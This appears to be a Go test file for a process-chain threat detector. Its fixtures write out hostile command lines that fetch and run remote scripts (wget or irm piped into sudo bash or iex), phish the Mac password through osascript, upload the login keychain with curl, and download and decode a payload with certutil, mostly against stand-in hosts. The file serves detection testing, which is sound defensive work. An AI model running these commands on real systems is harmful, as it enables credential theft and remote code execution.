package detect_test

import (
	"strings"
	"testing"
)

const (
	macTerminal = "|/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal|\n>|/bin/zsh|-l\n"
	explorer    = "|C:\\Windows\\explorer.exe|\n"
)

// TestOwnHouse plays what a house does on its own machines, and beside each what a
// lure does that looks like it.
func TestOwnHouse(t *testing.T) {
	for _, tc := range []struct {
		name, system, lines string
		alert               bool
	}{
		{"a certificate that only the house knows", "linux", terminal + `>>|/usr/bin/sh|-c "wget --no-check-certificate -qO- https://wiki.stadtwerke.invalid/proxy.sh | sudo bash"`, false},
		{"the same of a host named for the occasion", "linux", terminal + `>>|/usr/bin/sh|-c "wget --no-check-certificate -qO- https://wiki.teams-fix.invalid/proxy.sh | sudo bash"`, true},
		{"the same of a stranger", "linux", terminal + `>>|/usr/bin/sh|-c "wget --no-check-certificate -qO- https://stadtwerke.invalid/proxy.sh | sudo bash"`, true},
		{"the page for new machines", "windows", explorer + `>|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|-c "irm https://start.intranet.klinikum.invalid/pc.ps1 | iex"`, false},
		{"the same out of sight", "windows", explorer + `>|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|-w hidden -c "irm https://start.intranet.klinikum.invalid/pc.ps1 | iex"`, true},
		{"the same of a stranger in the run window", "windows", explorer + `>|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|-c "irm https://klinikum.invalid/pc.ps1 | iex"`, true},
		{"an app for all users asks for its server", "darwin", `|/Users/Shared/Praxis/Befunde.app/Contents/MacOS/applet|
			>|/usr/bin/osascript|-e 'display dialog "Passwort für befunde.praxis.invalid" default answer "" with hidden answer'`, false},
		{"the same asks for the password of the Mac", "darwin", `|/Users/Shared/Praxis/Befunde.app/Contents/MacOS/applet|
			>|/usr/bin/osascript|-e 'display dialog "Required Application Helper. Please enter password" default answer "" with hidden answer'`, true},
		{"the same, and checks it", "darwin", `|/Users/Shared/Praxis/Befunde.app/Contents/MacOS/applet|
			>|/usr/bin/osascript|-e 'display dialog "Passwort für befunde.praxis.invalid" default answer "" with hidden answer'
			>|/usr/bin/dscl|. -authonly ana geheim`, true},
		{"what was compiled is signed", "darwin", macTerminal + `>>|/usr/bin/swiftc|-O main.swift -o /tmp/probe
			>>|/usr/bin/codesign|-s - --force /tmp/probe`, false},
		{"a build's own keychain", "darwin", macTerminal + `>>|/usr/bin/ruby|/opt/homebrew/bin/fastlane beta
			>>>|/usr/bin/security|unlock-keychain -p x /Users/ana/Library/Keychains/ci.keychain-db
			>>>|/usr/bin/curl|-F ipa=@build/App.ipa https://testers.kassen.invalid/api`, false},
		{"the keychain of the user", "darwin", macTerminal + `>>|/usr/bin/ruby|/opt/homebrew/bin/fastlane beta
			>>>|/bin/cp|/Users/ana/Library/Keychains/login.keychain-db /tmp/k
			>>>|/usr/bin/curl|-F f=@/tmp/k https://testers.kassen.invalid/api`, true},
		{"a maker's service", "darwin", macTerminal + `>>|/bin/sh|-c "curl -fsSL https://get.meshwolf.invalid/install | sh"
			>>>|/usr/bin/curl|-fsSL https://get.meshwolf.invalid/install
			>>>|/bin/sh|
			>>>>|/var/folders/k2/T/tmp.1/meshwolf-setup|
			>>>>>|/bin/launchctl|bootstrap system /Library/LaunchDaemons/io.meshwolf.node.plist`, false},
		{"the same under a name of Apple's", "darwin", macTerminal + `>>|/bin/sh|-c "curl -fsSL https://get.meshwolf.invalid/install | sh"
			>>>|/usr/bin/curl|-fsSL https://get.meshwolf.invalid/install
			>>>|/bin/sh|
			>>>>|/var/folders/k2/T/tmp.1/meshwolf-setup|
			>>>>>|/bin/launchctl|bootstrap system /Library/LaunchDaemons/com.apple.meshd.plist`, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := play(t, tc.system, tc.lines); (got != "") != tc.alert {
				t.Errorf("fired %q, want an alert: %v", got, tc.alert)
			}
		})
	}
}

// TestShapes plays chains of which the decisive command line is not known.
func TestShapes(t *testing.T) {
	for _, tc := range []struct{ name, system, lines, rule string }{
		{"a program of a share on the web", "windows", explorer + `>|\\198.51.100.12@SSL@443\DavWWWRoot\Player.exe|?`, "MG-PROC-LOLBIN"},
		{"of the house's share", "windows", explorer + `>|\\files.corp\tools\Player.exe|?`, ""},
		{"of a firm's share", "windows", explorer + `>|\\dav.kanzlei.invalid@SSL\DavWWWRoot\tool.exe|?`, ""},
		{"a name one letter off", "windows", explorer + `>|C:\Users\ana\AppData\Roaming\x1\svhost.exe|?`, "MG-PROC-SYSTEM-NAME"},
		{"a name like no other", "windows", explorer + `>|C:\Users\ana\AppData\Local\Programs\ghost\ghost.exe|?`, ""},
		{"a script that was in a note", "windows", `|C:\Program Files\Microsoft Office\root\Office16\ONENOTE.EXE|?
			>|C:\Windows\System32\cmd.exe|/c C:\Users\ana\AppData\Local\Temp\OneNote\16.0\Exported\{A1}\NT\0\Open.cmd`, "MG-PROC-DOOR-HOST"},
		{"rundll32 by another name", "windows", explorer + `>|C:\Windows\System32\cmd.exe|?
			>>|C:\Users\ana\AppData\Local\Temp\rd.exe|.\meeting\core.dat,Start`, "MG-PROC-WEIGHED"},
		{"a setup's language", "windows", explorer + `>|C:\Users\ana\AppData\Local\Taxor\taxor.exe|texts.dat,de`, ""},
		{"a key of the run window's own", "windows", explorer + `>|C:\Windows\System32\rundll32.exe|?
			>>|C:\Windows\System32\schtasks.exe|?`, "MG-PROC-DOOR-HOST"},
		{"a copier that was brought along", "windows", `|C:\Windows\System32\svchost.exe|-k netsvcs -p -s Schedule
			>|C:\Windows\System32\rundll32.exe|C:\Users\ana\AppData\Roaming\Health\health.dll,Check
			>>|C:\Windows\System32\cmd.exe|/c nltest /dclist: & net view /all
			>>|C:\ProgramData\rclone.exe|?`, "MG-PROC-WEIGHED"},
		{"a copier in a folder of tools", "windows", explorer + `>|C:\Windows\System32\cmd.exe|
			>>|C:\Tools\rclone\rclone.exe|copy \\fs01\archiv b2:archiv`, ""},
		{"the desktop's shell and a temporary program", "linux", `|/usr/bin/gnome-shell|
			>|/usr/bin/sh|?
			>>|/dev/shm/a|?`, "MG-PROC-DROPPED"},
		{"a service of the bus out of a hidden file", "linux", terminal + `>>|/usr/bin/socat|?
			>>>|/usr/bin/cp|/tmp/.s /home/ana/.local/share/dbus-1/services/org.room.Mic.service`, "MG-PROC-WEIGHED"},
		{"an app that is named like a document", "darwin", `|/Users/ana/Downloads/Agenda.key.app/Contents/MacOS/Agenda|?
			>|/bin/sh|-c "curl -sk https://calendar-invite.invalid/ag -o ~/Library/Google/u && chmod +x ~/Library/Google/u"`, "MG-PROC-WEIGHED"},
		{"a text that the line decodes itself", "darwin", macTerminal + `>>|/bin/zsh|-c "$(echo Y3VybCAtcw== | base64 -d)"`, "MG-PROC-DECODED-PIPE"},
		{"a descriptor that is filled from an address", "darwin", macTerminal + `>>|/bin/bash|/dev/fd/11
			>>|/usr/bin/curl|-s http://198.51.100.23/s`, "MG-PROC-FETCH-ADDRESS"},
		{"a decoded program", "windows", explorer + `>|C:\Windows\System32\cmd.exe|/c c.cmd
			>>|C:\Windows\System32\certutil.exe|-urlcache -split -f http://192.0.2.201/c.txt C:\Users\ana\AppData\Local\Temp\z.txt
			>>|C:\Windows\System32\certutil.exe|-decode C:\Users\ana\AppData\Local\Temp\z.txt C:\Users\ana\AppData\Local\Temp\cam.exe`, "MG-PROC-WEIGHED"},
		{"the privacy list is copied by a script", "darwin", macTerminal + `>>|/usr/bin/osascript|/tmp/perm.scpt
			>>>|/bin/cp|"/Users/ana/Library/Application Support/com.apple.TCC/TCC.db" /tmp/TCC.db`, "MG-PROC-WEIGHED"},
		{"the privacy list is copied by hand", "darwin", macTerminal + `>>|/bin/cp|"/Users/ana/Library/Application Support/com.apple.TCC/TCC.db" /Users/ana/Desktop/`, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := play(t, tc.system, tc.lines)
			if tc.rule == "" && got != "" || !strings.Contains(got, tc.rule) {
				t.Errorf("fired %q, want %q", got, tc.rule)
			}
		})
	}
}
